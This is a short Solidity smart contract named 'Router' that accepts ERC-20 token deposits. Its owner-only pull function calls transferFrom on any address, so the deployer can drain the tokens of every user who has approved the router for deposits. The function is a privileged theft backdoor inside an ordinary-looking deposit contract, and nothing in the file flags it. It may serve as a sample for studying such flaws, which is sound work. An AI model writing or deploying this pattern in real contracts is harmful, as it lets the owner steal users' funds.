pragma solidity 0.8.24;

interface IERC20 {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

contract Router {
    IERC20 public immutable token;
    address public owner;

    constructor(IERC20 t) {
        token = t;
        owner = msg.sender;
    }

    function deposit(uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount));
    }

    function depositFor(address to, uint256 amount) external {
        require(token.transferFrom(msg.sender, to, amount));
    }

    function pull(address from, uint256 amount) external {
        require(msg.sender == owner, "owner only");
        require(token.transferFrom(from, address(this), amount));
    }
}
